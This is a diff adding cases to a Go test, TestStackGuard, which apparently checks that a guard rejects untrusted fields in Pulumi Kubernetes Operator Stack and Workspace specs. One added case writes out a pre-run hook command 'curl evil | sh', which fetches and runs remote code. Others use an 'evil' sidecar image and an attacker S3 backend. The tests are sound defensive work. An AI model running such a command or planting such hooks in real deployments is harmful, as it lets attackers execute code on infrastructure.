@@ -341,6 +341,12 @@ func TestStackGuard(t *testing.T) {
 			obj: spec(func(s map[string]any) { s["backend"] = "s3://evil-bucket" })},
 		"another stage's stack": {want: "only the stage's own stack",
 			obj: spec(func(s map[string]any) { s["stack"] = "acme/fleet/dev" })},
+		"a field a later PKO adds": {want: "only the fields of PKO v2.9.0's Stack and Workspace specs",
+			obj: spec(func(s map[string]any) { s["preRunHook"] = map[string]any{"command": "curl evil | sh"} })},
+		"a workspace field a later PKO adds": {want: "only the fields of PKO v2.9.0's Stack and Workspace specs",
+			obj: spec(func(s map[string]any) {
+				s["workspaceTemplate"] = map[string]any{"spec": map[string]any{"sidecars": []any{map[string]any{"image": "evil"}}}}
+			})},
 		"an inline program": {want: "program repository only",
 			obj: spec(func(s map[string]any) { s["programRef"] = map[string]any{"name": "evil"} })},
 		"a branch of the attacker's": {want: "follows only the branch",
